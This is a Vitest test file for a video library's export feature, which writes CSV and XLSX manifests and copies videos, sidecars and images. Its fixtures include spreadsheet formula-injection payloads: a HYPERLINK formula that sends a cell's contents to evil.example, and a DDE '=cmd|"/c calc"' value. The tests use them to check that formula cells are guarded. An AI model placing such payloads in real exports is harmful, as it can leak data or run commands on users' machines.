import { readFileSync } from 'node:fs';
import { copyFile, mkdir, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { importCsvFile, importWorkbookFile } from '../../src/main/core/import';
import { LibraryService } from '../../src/main/core/library';
import { formatSidecar, readSidecar, type Sidecar } from '../../src/main/core/download';
import { SAMPLE_TALL, SAMPLE_WIDE, TempDirs, makeSidecar } from './helpers';

const temp = new TempDirs();
afterAll(() => temp.cleanup());

// A real (tiny) JPEG: the importer reads its width and height when the manifest comes back.
const JPEG = readFileSync(fileURLToPath(new URL('../fixtures/images/baseline-41x29.jpg', import.meta.url)));
const NASTY_PROMPT = '=HYPERLINK("http://evil.example/?x="&A1, "click"), then a robot says "hi",\nline two';

async function addVideo(root: string, rel: string, sidecar?: Sidecar, sample = SAMPLE_WIDE): Promise<void> {
  const path = join(root, rel);
  await mkdir(join(path, '..'), { recursive: true });
  await copyFile(sample, path);
  if (sidecar) await writeFile(path.replace(/\.mp4$/, '.json'), formatSidecar(sidecar));
}

/** Every mode, a fixed and a random seed, a source image, a LoRA, a formula-looking prompt and batch, an unknown video. */
async function makeLibrary(): Promise<string> {
  const root = await temp.make('ltx-export-lib-');
  await addVideo(
    root,
    'a/robot.mp4',
    makeSidecar(
      'robot.mp4',
      { seed: 42, name: 'robot-rain' },
      { prompt: 'A small robot, in the rain', resolution: '720p', duration: 6, seed: 42, aspectRatio: '9:16' }
    )
  );
  await addVideo(
    root,
    'a/nasty.mp4',
    makeSidecar('nasty.mp4', { batch: { id: 'evil', name: '=cmd|"/c calc"!A1' }, seed: -1 }, { prompt: NASTY_PROMPT, seed: -1 })
  );
  const image = { imageUrl: 'https://hosted.example/expiring.jpg?sig=abc', sourceImage: 'shot.source.jpg' };
  await addVideo(
    root,
    'b/shot.mp4',
    makeSidecar(
      'shot.mp4',
      { ...image, seed: 9 },
      { mode: 'image-to-video', prompt: 'The photo comes alive', resolution: '1080p', duration: 10, seed: 9, imageUrl: image.imageUrl }
    )
  );
  await writeFile(join(root, 'b/shot.source.jpg'), JPEG);
  const loras = [
    { path: 'https://example.com/a.safetensors', scale: 0.75 },
    { path: 'https://example.com/b.safetensors', scale: 1.5 }
  ];
  await addVideo(
    root,
    'b/robot.mp4',
    makeSidecar('robot.mp4', { loras, seed: 5 }, { mode: 'text-to-video-LoRA', prompt: 'robot dancing', resolution: '480p', duration: 5, seed: 5, loras })
  );
  await addVideo(root, 'found.mp4', undefined, SAMPLE_TALL);
  return root;
}

const open: LibraryService[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((s) => s.close()));
});

async function openService(libraryDir: string): Promise<LibraryService> {
  const data = await temp.make('ltx-export-data-');
  const service = await LibraryService.open({ libraryDir, cacheDir: join(data, 'cache'), trash: async () => undefined, reveal: () => undefined, watch: false });
  open.push(service);
  return service;
}

const ALL = ['a/robot.mp4', 'a/nasty.mp4', 'b/shot.mp4', 'b/robot.mp4', 'found.mp4'];

describe('LibraryService.exportTo', () => {
  it('copies videos, sidecars and source images, with a manifest the importer reads back', async () => {
    const root = await makeLibrary();
    const service = await openService(root);
    const out = join(await temp.make('ltx-export-out-'), 'export');

    const result = await service.exportTo(ALL, out);
    expect(result).toEqual({ done: 5, failed: [], folder: out, manifest: join(out, 'manifest.csv'), manifestXlsx: join(out, 'manifest.xlsx') });
    expect((await readdir(out)).sort()).toEqual(
      [
        'found.mp4',
        'manifest.csv',
        'manifest.xlsx',
        'nasty.json',
        'nasty.mp4',
        'robot-2.json',
        'robot-2.mp4',
        'robot.json',
        'robot.mp4',
        'shot.json',
        'shot.mp4',
        'shot.source.jpg'
      ].sort()
    );
    expect(await readFile(join(out, 'shot.mp4'))).toEqual(await readFile(join(root, 'b/shot.mp4')));
    expect(await readFile(join(out, 'robot.json'))).toEqual(await readFile(join(root, 'a/robot.json')));
    // A sidecar holding a signed link is copied with the link unsigned, and nothing else changed.
    const library = JSON.parse(await readFile(join(root, 'b/shot.json'), 'utf8'));
    const exported = JSON.parse(await readFile(join(out, 'shot.json'), 'utf8'));
    expect(exported).toEqual({
      ...library,
      imageUrl: 'https://hosted.example/expiring.jpg',
      request: { ...library.request, input: { ...library.request.input, image_urls: ['https://hosted.example/expiring.jpg'] } }
    });
    expect(await readFile(join(out, 'shot.source.jpg'))).toEqual(JPEG);
    // The second robot.mp4 was renamed, and its sidecar says so.
    expect((await readSidecar(join(out, 'robot-2.json'))).sidecar).toMatchObject({ file: 'robot-2.mp4', prompt: 'robot dancing' });

    const imported = await importCsvFile(result.manifest);
    expect(imported.fileProblems).toEqual([]);
    // The XLSX manifest makes the same videos as the CSV. Its cells are stored as text, so an
    // informative cell needs no apostrophe guard there; the CSV's guard is taken off as it is read:
    // both read back exactly as it was.
    const fromXlsx = await importWorkbookFile(result.manifestXlsx, { random: () => 0.5 });
    const fromCsv = await importCsvFile(result.manifest, { random: () => 0.5 });
    expect(fromXlsx.rows.map((r) => r.draft)).toEqual(fromCsv.rows.map((r) => r.draft));
    expect(fromXlsx.problems).toEqual(fromCsv.problems);
    expect(fromXlsx.rows.map((r) => r.source.batch)).toContain('=cmd|"/c calc"!A1');
    expect(fromCsv.rows.map((r) => r.source.batch)).toContain('=cmd|"/c calc"!A1');
    const byRow = imported.rows.map((r) => ({ prompt: r.draft.prompt, seed: r.draft.seed, mode: r.draft.mode, problems: r.problems.length }));
    expect(byRow.slice(0, 4)).toEqual([
      { prompt: 'A small robot, in the rain', seed: 42, mode: 'text-to-video', problems: 0 },
      // A random seed (-1) reads back as random: the importer draws a concrete seed for it.
      { prompt: NASTY_PROMPT, seed: expect.toSatisfy((s: number) => Number.isInteger(s) && s >= 1 && s <= 2147483647), mode: 'text-to-video', problems: 0 },
      { prompt: 'The photo comes alive', seed: 9, mode: 'image-to-video', problems: 0 },
      { prompt: 'robot dancing', seed: 5, mode: 'text-to-video-LoRA', problems: 0 }
    ]);
    expect(imported.rows[0].draft).toMatchObject({ resolution: '720p', duration: 6, aspectRatio: '9:16' });
    // A named video's name comes back, so the videos made again are named the same; unnamed ones have none.
    expect(imported.rows.slice(0, 4).map((r) => r.name)).toEqual(['robot-rain', undefined, undefined, undefined]);
    // The source image comes back as the exported copy, which never expires (the hosted link may).
    expect(imported.rows[2].imagePath).toBe(join(out, 'shot.source.jpg'));
    expect(imported.rows[2].draft).toMatchObject({ resolution: '1080p', duration: 10 });
    expect(imported.rows[3].draft.loras).toEqual([
      { path: 'https://example.com/a.safetensors', scale: 0.75 },
      { path: 'https://example.com/b.safetensors', scale: 1.5 }
    ]);
    // A video the app did not make has nothing to make it again with: the importer says so.
    expect(imported.rows[4].problems.map((p) => p.field)).toContain('prompt');
    expect(imported.validCount).toBe(4);
  });

  it('writes UTF-8 with a BOM, quotes every cell, and guards formula cells except the prompt', async () => {
    const root = await makeLibrary();
    const service = await openService(root);
    const out = await temp.make('ltx-export-csv-');
    const { manifest } = await service.exportTo(['a/nasty.mp4', 'b/shot.mp4', 'found.mp4'], out);
    const bytes = await readFile(manifest);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.endsWith('"\r\n')).toBe(true);
    const [header, nasty, shot, found] = parse(text) as string[][];
    const cell = (row: string[], name: string): string => row[header.indexOf(name)];
    expect(header.slice(0, 8)).toEqual(['name', 'prompt', 'mode', 'resolution', 'duration', 'aspect_ratio', 'seed', 'image_url']);
    expect(header).toEqual(
      expect.arrayContaining([
        'lora3_scale',
        'file',
        'original_image_url',
        'task_id',
        'batch',
        'cost_usd',
        'created_at',
        'width',
        'height',
        'fps',
        'has_audio',
        'origin'
      ])
    );
    expect(cell(nasty, 'prompt')).toBe(NASTY_PROMPT);
    expect(cell(nasty, 'batch')).toBe(`'=cmd|"/c calc"!A1`);
    expect(cell(nasty, 'seed')).toBe('-1');
    expect(cell(nasty, 'cost_usd')).toBe('0.06');
    expect(cell(nasty, 'created_at')).toBe('2025-01-31T10:00:51.000Z');
    expect(cell(shot, 'image_url')).toBe('shot.source.jpg');
    expect(cell(shot, 'original_image_url')).toBe('https://hosted.example/expiring.jpg');
    expect(cell(shot, 'aspect_ratio')).toBe('');
    expect(found).toEqual(
      header.map(
        (h) =>
          ({ file: 'found.mp4', width: '360', height: '640', fps: '24', has_audio: 'true', origin: 'unknown' })[h] ?? (h === 'created_at' ? cell(found, h) : '')
      )
    );
    expect(Date.parse(cell(found, 'created_at'))).toBe(Math.floor((await stat(join(root, 'found.mp4'))).mtimeMs));
  });

  it('never replaces a file already in the folder', async () => {
    const root = await makeLibrary();
    const service = await openService(root);
    const out = await temp.make('ltx-export-twice-');
    await service.exportTo(['b/shot.mp4'], out);
    const before = await readFile(join(out, 'shot.json'));
    await writeFile(join(out, 'shot-2.source.jpg'), 'somebody else’s file');

    const second = await service.exportTo(['b/shot.mp4'], out);
    expect(second).toMatchObject({ done: 1, failed: [], manifest: join(out, 'manifest-2.csv'), manifestXlsx: join(out, 'manifest-2.xlsx') });
    expect((await readdir(out)).sort()).toEqual(
      [
        'manifest.csv',
        'manifest.xlsx',
        'manifest-2.csv',
        'manifest-2.xlsx',
        'shot.json',
        'shot.mp4',
        'shot.source.jpg',
        'shot-2.source.jpg',
        'shot-3.json',
        'shot-3.mp4',
        'shot-3.source.jpg'
      ].sort()
    );
    expect(await readFile(join(out, 'shot.json'))).toEqual(before);
    expect(await readFile(join(out, 'shot-2.source.jpg'), 'utf8')).toBe('somebody else’s file');
    expect((await readSidecar(join(out, 'shot-3.json'))).sidecar).toMatchObject({ file: 'shot-3.mp4', sourceImage: 'shot-3.source.jpg' });
    const again = await importCsvFile(second.manifest);
    expect(again.rows[0].imagePath).toBe(join(out, 'shot-3.source.jpg'));
  });

  it('exports what it can and says what it could not', async () => {
    const root = await makeLibrary();
    const service = await openService(root);
    await service.idle(); // not followed: the index still lists the video removed next
    await rm(join(root, 'a/robot.mp4'));
    const out = await temp.make('ltx-export-partial-');
    const result = await service.exportTo(['a/robot.mp4', 'b/robot.mp4', 'nope.mp4'], out);
    expect(result.done).toBe(1);
    expect(result.failed).toEqual([
      { path: 'nope.mp4', message: expect.stringMatching(/no longer in the library/) },
      { path: 'a/robot.mp4', message: 'robot.mp4 was not exported (a file is no longer there). Check the export folder and try again.' }
    ]);
    expect((await readdir(out)).sort()).toEqual(['manifest.csv', 'manifest.xlsx', 'robot.json', 'robot.mp4']);
  });

  it('refuses a folder inside the library', async () => {
    const root = await makeLibrary();
    const service = await openService(root);
    await expect(service.exportTo(['b/shot.mp4'], join(root, 'exports'))).rejects.toMatchObject({
      code: 'invalid_argument',
      message: expect.stringMatching(/inside the library.*Choose a folder outside the library/)
    });
    await expect(service.exportTo(['b/shot.mp4'], root)).rejects.toMatchObject({ code: 'invalid_argument' });
    await expect(service.exportTo(['b/shot.mp4'], 'relative/out')).rejects.toMatchObject({ code: 'invalid_argument' });
    expect(basename(root)).not.toBe('exports');
  });
});
